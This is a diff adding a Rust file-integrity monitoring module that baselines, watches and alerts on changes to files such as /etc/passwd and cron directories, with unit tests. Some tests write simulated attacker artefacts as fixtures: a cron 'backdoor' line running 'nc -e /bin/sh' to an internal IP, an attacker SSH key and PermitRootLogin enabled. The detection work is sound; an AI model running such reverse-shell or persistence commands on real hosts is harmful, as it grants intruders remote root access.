@@ -0,0 +1,560 @@
+use inotify::{EventMask, WatchMask};
+use serde::{Serialize, Deserialize};
+use sha2::{Digest, Sha256};
+use std::{collections::{BTreeMap, BTreeSet, HashMap}, fs::{self, File}, io::{self, BufRead}, net::IpAddr, os::unix::fs::MetadataExt, path::{Path, PathBuf}, sync::{Arc, Mutex}, thread, time::SystemTime};
+
+use crate::alert::{Alert, AlertCallback, Severity};
+use crate::process::find_processes_using;
+use crate::watcher::{collect_dirs, start_path_watcher, PathCallback};
+
+/// A file or directory monitored by the file integrity monitoring (FIM).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct FimEntry {
+    /// The monitored file, or directory whose content is monitored recursively.
+    pub path: PathBuf,
+    /// The severity of the alerts raised when the monitored path changes.
+    pub severity: Severity,
+}
+
+/// The state of a file at a given time, as stored in the baseline.
+#[derive(Debug, Serialize, Deserialize, Clone, PartialEq, Eq)]
+pub struct FileRecord {
+    /// The SHA-256 of the file content (of the link target for symbolic links).
+    pub hash: String,
+    /// The size of the file, in bytes.
+    pub size: u64,
+    /// The mode (type and permissions) of the file.
+    pub mode: u32,
+    /// The owner of the file.
+    pub uid: u32,
+    /// The group of the file.
+    pub gid: u32,
+    /// The last modification time of the file, in seconds since the UNIX epoch.
+    pub mtime: i64,
+}
+
+/// The known good state of every monitored file, indexed by path.
+pub type Baseline = BTreeMap<String, FileRecord>;
+
+/// A difference between the baseline and the current state of a file.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Change {
+    /// The path of the file that changed.
+    pub path: PathBuf,
+    /// The state of the file in the baseline, `None` if the file was added.
+    pub old: Option<FileRecord>,
+    /// The current state of the file, `None` if the file was removed.
+    pub new: Option<FileRecord>,
+}
+
+/// Reads the FIM entries from a file and returns them as a vector.
+///
+/// Each line holds a path, optionally followed by the severity of the alerts raised when
+/// it changes (`high` by default). Empty lines and lines starting with `#` are ignored.
+///
+/// # Arguments
+///
+/// * `filename` - The path to the file listing the monitored paths.
+///
+/// # Returns
+///
+/// * `Ok(Vec<FimEntry>)` - A vector containing the entries listed in the file.
+/// * `Err(io::Error)` - An error if the file cannot be read or contains an invalid severity.
+pub fn read_fim_entries_from_file(filename: &str) -> io::Result<Vec<FimEntry>>
+{
+    let file = File::open(Path::new(filename))?;
+    let reader = io::BufReader::new(file);
+    let mut entries = Vec::new();
+
+    for line in reader.lines() {
+        let line = line?;
+        let mut fields = line.split_whitespace();
+
+        let Some(path) = fields.next().filter(|path| !path.starts_with('#')) else {
+            continue;
+        };
+        let severity = match fields.next() {
+            Some(severity) => severity.parse().map_err(io::Error::other)?,
+            None => Severity::High,
+        };
+
+        entries.push(FimEntry { path: PathBuf::from(path), severity });
+    }
+
+    Ok(entries)
+}
+
+/// Computes the current state of a file.
+///
+/// Symbolic links are not followed: their target is hashed instead of their content.
+///
+/// # Arguments
+///
+/// * `path` - The path of the file.
+///
+/// # Returns
+///
+/// * `Some(FileRecord)` if the file exists and could be read.
+/// * `None` otherwise.
+pub fn record(path: &Path) -> Option<FileRecord>
+{
+    let metadata = fs::symlink_metadata(path).ok()?;
+    let mut hasher = Sha256::new();
+
+    if metadata.file_type().is_symlink() {
+        hasher.update(fs::read_link(path).ok()?.as_os_str().as_encoded_bytes());
+    } else {
+        io::copy(&mut File::open(path).ok()?, &mut hasher).ok()?;
+    }
+
+    Some(FileRecord {
+        hash: format!("{:x}", hasher.finalize()),
+        size: metadata.size(),
+        mode: metadata.mode(),
+        uid: metadata.uid(),
+        gid: metadata.gid(),
+        mtime: metadata.mtime(),
+    })
+}
+
+/// Collects the files under a path, recursively, without following symbolic links.
+fn collect_files(path: &Path, files: &mut Vec<PathBuf>)
+{
+    match fs::symlink_metadata(path) {
+        Ok(metadata) if metadata.is_dir() => {
+            if let Ok(entries) = fs::read_dir(path) {
+                for entry in entries.flatten() {
+                    collect_files(&entry.path(), files);
+                }
+            }
+        },
+        Ok(_) => files.push(path.to_path_buf()),
+        Err(_) => {},
+    }
+}
+
+/// Hashes every file under the monitored paths into a new baseline.
+///
+/// # Arguments
+///
+/// * `entries` - The monitored paths.
+///
+/// # Returns
+///
+/// * `Baseline` - The current state of every monitored file.
+pub fn build_baseline(entries: &[FimEntry]) -> Baseline
+{
+    let mut files = Vec::new();
+    for entry in entries {
+        collect_files(&entry.path, &mut files);
+    }
+
+    files
+        .into_iter()
+        .filter_map(|path| Some((path.to_string_lossy().to_string(), record(&path)?)))
+        .collect()
+}
+
+/// Loads a baseline previously saved with `save_baseline`.
+///
+/// # Arguments
+///
+/// * `filename` - The path of the baseline file.
+///
+/// # Returns
+///
+/// * `Ok(Baseline)` - The baseline stored in the file.
+/// * `Err(io::Error)` - An error if the file cannot be read or parsed.
+pub fn load_baseline(filename: &str) -> io::Result<Baseline>
+{
+    let content = fs::read_to_string(filename)?;
+    serde_json::from_str(&content).map_err(io::Error::other)
+}
+
+/// Saves a baseline to a file, as JSON.
+///
+/// # Arguments
+///
+/// * `filename` - The path of the baseline file.
+/// * `baseline` - The baseline to save.
+///
+/// # Returns
+///
+/// * `Ok(())` if the baseline was saved.
+/// * `Err(io::Error)` if the file cannot be written.
+pub fn save_baseline(filename: &str, baseline: &Baseline) -> io::Result<()>
+{
+    let content = serde_json::to_string_pretty(baseline).map_err(io::Error::other)?;
+    fs::write(filename, content)
+}
+
+/// Re-hashes the monitored paths and replaces the stored baseline.
+///
+/// This is meant to be run by an operator after a sanctioned change (package upgrade,
+/// user creation, ...). A running agent picks the new baseline up on its own.
+///
+/// # Arguments
+///
+/// * `entries_file` - The path of the file listing the monitored paths.
+/// * `baseline_file` - The path of the baseline file to write.
+///
+/// # Returns
+///
+/// * `Ok(usize)` - The number of files in the new baseline.
+/// * `Err(io::Error)` - An error if the entries cannot be read or the baseline cannot be saved.
+pub fn rebaseline(entries_file: &str, baseline_file: &str) -> io::Result<usize>
+{
+    let entries = read_fim_entries_from_file(entries_file)?;
+    let baseline = build_baseline(&entries);
+
+    save_baseline(baseline_file, &baseline)?;
+
+    Ok(baseline.len())
+}
+
+/// Compares the current state of a file with its state in the baseline.
+///
+/// # Arguments
+///
+/// * `baseline` - The baseline to compare with.
+/// * `path` - The path of the file.
+///
+/// # Returns
+///
+/// * `Some(Change)` if the file differs from the baseline.
+/// * `None` if the file is unchanged.
+pub fn check(baseline: &Baseline, path: &Path) -> Option<Change>
+{
+    let old = baseline.get(path.to_string_lossy().as_ref()).cloned();
+    let new = if fs::symlink_metadata(path).map(|m| m.is_dir()).unwrap_or(false) {
+        None
+    } else {
+        record(path)
+    };
+
+    if old == new {
+        return None;
+    }
+
+    Some(Change { path: path.to_path_buf(), old, new })
+}
+
+/// Compares every monitored file with the baseline.
+///
+/// # Arguments
+///
+/// * `baseline` - The baseline to compare with.
+/// * `entries` - The monitored paths.
+///
+/// # Returns
+///
+/// * `Vec<Change>` - The files added, removed or modified since the baseline was made.
+pub fn scan(baseline: &Baseline, entries: &[FimEntry]) -> Vec<Change>
+{
+    let current = build_baseline(entries);
+    let paths: BTreeSet<&String> = baseline.keys().chain(current.keys()).collect();
+
+    paths
+        .into_iter()
+        .filter(|path| baseline.get(*path) != current.get(*path))
+        .map(|path| Change {
+            path: PathBuf::from(path),
+            old: baseline.get(path).cloned(),
+            new: current.get(path).cloned(),
+        })
+        .collect()
+}
+
+/// Returns the entry a path belongs to, the most specific one if several match.
+fn entry_for<'a>(entries: &'a [FimEntry], path: &Path) -> Option<&'a FimEntry>
+{
+    entries
+        .iter()
+        .filter(|entry| path.starts_with(&entry.path))
+        .max_by_key(|entry| entry.path.as_os_str().len())
+}
+
+/// Builds the alert raised for a change of a monitored file.
+///
+/// # Arguments
+///
+/// * `change` - The change detected.
+/// * `severity` - The severity of the alert.
+/// * `my_ip` - The IP address of the local machine, the target of the alert.
+pub fn change_alert(change: &Change, severity: Severity, my_ip: IpAddr) -> Alert
+{
+    let action = match (&change.old, &change.new) {
+        (None, _) => "added",
+        (_, None) => "removed",
+        _ => "modified",
+    };
+    let mut alert = Alert::new(
+        "fim",
+        severity,
+        my_ip,
+        format!("File {} {action}", change.path.display()),
+    );
+
+    for (prefix, record) in [("old", &change.old), ("new", &change.new)] {
+        let Some(record) = record else {
+            continue;
+        };
+
+        alert.details.insert(format!("{prefix}_hash"), record.hash.clone());
+        alert.details.insert(format!("{prefix}_size"), record.size.to_string());
+        alert.details.insert(format!("{prefix}_mode"), format!("{:o}", record.mode));
+        alert.details.insert(format!("{prefix}_owner"), format!("{}:{}", record.uid, record.gid));
+        alert.details.insert(format!("{prefix}_mtime"), record.mtime.to_string());
+    }
+
+    alert
+}
+
+/// Returns the last modification time of a file, if it exists.
+fn modified(filename: &str) -> Option<SystemTime>
+{
+    fs::metadata(filename).and_then(|m| m.modified()).ok()
+}
+
+/// Starts the file integrity monitoring of the given paths.
+///
+/// The baseline is loaded from `baseline_file`, or built and saved there on the first run.
+/// The monitored files are then compared with it, to catch changes made while the agent was
+/// not running, and watched for changes. The directories created under a monitored directory
+/// are watched as well, the files they bring along being reported as added. Each change raises an alert about the local machine
+/// with the old and new hashes and metadata of the file, and the severity of its entry.
+///
+/// When `baseline_file` is replaced (see `rebaseline`), the new baseline is used from the
+/// next event on.
+///
+/// Hashing runs in a separate thread to avoid blocking the main execution.
+///
+/// # Arguments
+///
+/// * `entries` - The monitored paths.
+/// * `baseline_file` - The path of the baseline file.
+/// * `my_ip` - The IP address of the local machine, the target of the alerts.
+/// * `callback` - The callback to run with the alerts raised.
+pub fn start_fim(entries: Vec<FimEntry>, baseline_file: String, my_ip: IpAddr, callback: AlertCallback)
+{
+    thread::spawn(move || {
+        let baseline = match load_baseline(&baseline_file) {
+            Ok(baseline) => baseline,
+            Err(_) => {
+                let baseline = build_baseline(&entries);
+                if let Err(e) = save_baseline(&baseline_file, &baseline) {
+                    println!("Failed to save FIM baseline {baseline_file}: {e}");
+                }
+                baseline
+            },
+        };
+
+        println!("FIM baseline holds {} files", baseline.len());
+
+        let mut reported = HashMap::new();
+        for change in scan(&baseline, &entries) {
+            if let Some(entry) = entry_for(&entries, &change.path) {
+                let cb = callback.lock().unwrap();
+                cb(change_alert(&change, entry.severity, my_ip));
+            }
+            reported.insert(change.path.clone(), change.new);
+        }
+
+        let mut dirs = Vec::new();
+        for entry in &entries {
+            if entry.path.is_dir() {
+                collect_dirs(&entry.path, &mut dirs);
+            } else if let Some(parent) = entry.path.parent() {
+                dirs.push(parent.to_path_buf());
+            }
+        }
+        dirs.sort();
+        dirs.dedup();
+
+        let state = Mutex::new((baseline, modified(&baseline_file), reported));
+
+        let path_callback: PathCallback = Arc::new(Mutex::new(Box::new(move |path: &Path, mask: EventMask| {
+            if mask.contains(EventMask::IGNORED) {
+                return;
+            }
+            let Some(entry) = entry_for(&entries, path) else {
+                return;
+            };
+
+            let mut state = state.lock().unwrap();
+            let (baseline, loaded_at, reported) = &mut *state;
+
+            if modified(&baseline_file) != *loaded_at {
+                if let Ok(new_baseline) = load_baseline(&baseline_file) {
+                    println!("Reloaded FIM baseline ({} files)", new_baseline.len());
+                    *baseline = new_baseline;
+                    reported.clear();
+                }
+                *loaded_at = modified(&baseline_file);
+            }
+
+            // A directory brings its files along, or takes them away.
+            let paths = if mask.contains(EventMask::ISDIR) {
+                let mut files = Vec::new();
+                collect_files(path, &mut files);
+                files.extend(baseline.keys().map(PathBuf::from).filter(|file| file.starts_with(path)));
+                files.sort();
+                files.dedup();
+                files
+            } else {
+                vec![path.to_path_buf()]
+            };
+
+            for path in &paths {
+                match check(baseline, path) {
+                    Some(change) => {
+                        if reported.get(path) == Some(&change.new) {
+                            continue;
+                        }
+                        reported.insert(path.to_path_buf(), change.new.clone());
+
+                        // The writer may still hold the file open, in which case it can be named.
+                        let mut alert = change_alert(&change, entry.severity, my_ip);
+                        if let Some(process) = find_processes_using(path).into_iter().find(|p| p.pid != std::process::id()) {
+                            alert = alert.with_process(process.pid);
+                        }
+
+                        let cb = callback.lock().unwrap();
+                        cb(alert);
+                    },
+                    None => {
+                        reported.remove(path);
+                    },
+                }
+            }
+        })));
+
+        let mask = WatchMask::MODIFY | WatchMask::CLOSE_WRITE | WatchMask::ATTRIB
+            | WatchMask::CREATE | WatchMask::DELETE | WatchMask::MOVED_FROM | WatchMask::MOVED_TO
+            | WatchMask::MOVE_SELF;
+
+        start_path_watcher(dirs, mask, true, path_callback);
+    });
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::io::Write;
+
+    fn temp_dir(name: &str) -> PathBuf {
+        let dir = std::env::temp_dir().join(name);
+        let _ = fs::remove_dir_all(&dir);
+        fs::create_dir_all(&dir).unwrap();
+        dir
+    }
+
+    #[test]
+    fn test_read_fim_entries_from_file() {
+        let dir = temp_dir("test_fim_entries");
+        let path = dir.join("fim.txt");
+        let mut file = File::create(&path).unwrap();
+        file.write_all(b"# critical files\n/etc/passwd critical\n\n/usr/bin\n").unwrap();
+
+        let entries = read_fim_entries_from_file(path.to_str().unwrap()).unwrap();
+        assert_eq!(entries, vec![
+            FimEntry { path: PathBuf::from("/etc/passwd"), severity: Severity::Critical },
+            FimEntry { path: PathBuf::from("/usr/bin"), severity: Severity::High },
+        ]);
+    }
+
+    #[test]
+    fn test_read_fim_entries_invalid_severity() {
+        let dir = temp_dir("test_fim_entries_invalid");
+        let path = dir.join("fim.txt");
+        fs::write(&path, "/etc/passwd urgent\n").unwrap();
+
+        assert!(read_fim_entries_from_file(path.to_str().unwrap()).is_err());
+    }
+
+    #[test]
+    fn test_check_detects_changes() {
+        let dir = temp_dir("test_fim_check");
+        let file = dir.join("sshd_config");
+        fs::write(&file, "PermitRootLogin no\n").unwrap();
+
+        let entries = vec![FimEntry { path: dir.clone(), severity: Severity::High }];
+        let baseline = build_baseline(&entries);
+        assert_eq!(baseline.len(), 1);
+        assert!(check(&baseline, &file).is_none());
+
+        fs::write(&file, "PermitRootLogin yes\n").unwrap();
+        let change = check(&baseline, &file).unwrap();
+        assert_ne!(change.old.unwrap().hash, change.new.unwrap().hash);
+
+        let added = dir.join("authorized_keys");
+        fs::write(&added, "ssh-ed25519 AAAA attacker\n").unwrap();
+        let change = check(&baseline, &added).unwrap();
+        assert!(change.old.is_none());
+
+        assert_eq!(scan(&baseline, &entries).len(), 2);
+    }
+
+    #[test]
+    fn test_change_alert_details() {
+        let dir = temp_dir("test_fim_alert");
+        let file = dir.join("passwd");
+        fs::write(&file, "root:x:0:0::/root:/bin/bash\n").unwrap();
+        let old = record(&file);
+        fs::remove_file(&file).unwrap();
+
+        let change = Change { path: file, old, new: None };
+        let alert = change_alert(&change, Severity::Critical, "127.0.0.1".parse().unwrap());
+
+        assert_eq!(alert.severity, Severity::Critical);
+        assert!(alert.message.ends_with("removed"));
+        assert!(alert.details.contains_key("old_hash"));
+        assert!(!alert.details.contains_key("new_hash"));
+    }
+
+    #[test]
+    fn test_new_directory_is_watched() {
+        let dir = temp_dir("test_fim_new_directory");
+        let root = dir.join("etc");
+        fs::create_dir_all(&root).unwrap();
+        let alerts: Arc<Mutex<Vec<String>>> = Arc::new(Mutex::new(Vec::new()));
+        let messages = alerts.clone();
+        let callback: AlertCallback = Arc::new(Mutex::new(Box::new(move |alert: Alert| {
+            messages.lock().unwrap().push(alert.message);
+        })));
+        let wait_for = |message: String| {
+            let start = std::time::Instant::now();
+            while !alerts.lock().unwrap().contains(&message) {
+                assert!(start.elapsed() < std::time::Duration::from_secs(10), "no alert \"{message}\" in {:?}", alerts.lock().unwrap());
+                thread::sleep(std::time::Duration::from_millis(50));
+            }
+        };
+
+        let entries = vec![FimEntry { path: root.clone(), severity: Severity::High }];
+        start_fim(entries, dir.join("baseline.json").to_string_lossy().to_string(), "10.20.6.1".parse().unwrap(), callback);
+        thread::sleep(std::time::Duration::from_millis(500));
+
+        // The files written with the directory, before it is watched, are reported too.
+        let sub = root.join("cron.d/daily");
+        fs::create_dir_all(&sub).unwrap();
+        fs::write(sub.join("backdoor"), "* * * * * root nc -e /bin/sh 10.20.6.66\n").unwrap();
+        wait_for(format!("File {} added", sub.join("backdoor").display()));
+
+        thread::sleep(std::time::Duration::from_millis(300));
+        fs::write(sub.join("later"), "* * * * * root true\n").unwrap();
+        wait_for(format!("File {} added", sub.join("later").display()));
+    }
+
+    #[test]
+    fn test_rebaseline() {
+        let dir = temp_dir("test_fim_rebaseline");
+        fs::write(dir.join("crontab"), "* * * * * true\n").unwrap();
+        let entries_file = dir.join("fim.txt");
+        fs::write(&entries_file, format!("{}\n", dir.join("crontab").display())).unwrap();
+        let baseline_file = dir.join("baseline.json");
+
+        let count = rebaseline(entries_file.to_str().unwrap(), baseline_file.to_str().unwrap()).unwrap();
+        assert_eq!(count, 1);
+        assert_eq!(load_baseline(baseline_file.to_str().unwrap()).unwrap().len(), 1);
+    }
+}